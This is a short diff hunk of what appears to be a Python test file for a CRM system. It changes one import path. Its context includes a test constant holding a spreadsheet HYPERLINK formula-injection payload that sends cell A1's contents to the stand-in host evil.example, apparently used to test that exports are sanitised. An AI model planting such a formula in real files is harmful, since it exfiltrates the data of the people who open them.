@@ -30,7 +30,7 @@ from crm_core.statistics import Period
 from crm_core.storage.database import Database
 from crm_core.storage.tables import Contact, Event, Lead, OutboxRow, Staff
 from tests.core.test_statistics import NOON, Books
-from tests.processes import ROOT
+from tests.forks import ROOT
 
 MOSCOW = "Europe/Moscow"
 BOMB = '=HYPERLINK("https://evil.example/?x="&A1;"открой")'
